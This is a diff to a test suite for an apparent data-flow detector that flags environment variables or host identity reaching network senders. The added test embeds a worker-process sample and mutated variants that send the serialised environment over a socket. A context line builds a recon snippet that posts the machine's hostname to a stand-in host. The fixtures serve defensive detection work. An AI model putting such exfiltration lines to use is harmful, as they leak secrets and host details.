@@ -35,6 +35,31 @@ def test_whole_environment_reaching_a_sender_is_recorded() -> None:
     assert "network<-os.environ" not in calls(single)
 
 
+_WORKER = """\
+import os, socket, subprocess
+from .ipc import send
+class WorkerClient:
+    def __init__(self, status_file, options, env):
+        self.proc = subprocess.Popen(['python', '-m', 'worker', status_file], env=env)
+        self.conn = socket.create_connection(('127.0.0.1', 7000))
+def start(build_id, worker_env=None):
+    workers = [WorkerClient(f'{build_id}.json', 'o', worker_env or os.environ)]
+    for worker in workers:
+        send(worker.conn, b'ready')
+"""
+
+
+def test_the_environment_a_local_class_gives_its_child_process_is_not_sent() -> None:
+    """mypy's build workers: ``WorkerClient(..., os.environ)`` hands the environment to
+    ``Popen(env=...)``; the worker's connection then carries messages, not the environment."""
+    assert "network<-os.environ" not in calls(_WORKER)
+    # a class that keeps or serialises the environment passes it on
+    kept = _WORKER.replace("env=env)", "env=env)\n        self.blob = repr(env)")
+    assert "network<-os.environ" in calls(kept.replace("b'ready'", "worker.blob.encode()"))
+    stored = _WORKER.replace("env=env)", "env=dict(env))")
+    assert "network<-os.environ" in calls(stored.replace("b'ready'", "str(workers).encode()"))
+
+
 def test_identity_and_key_material_reaching_a_sender() -> None:
     recon = "import socket, urllib.request\np = socket.getfqdn()\n"
     recon += "urllib.request.urlopen('https://x.example.invalid/?' + p)\n"
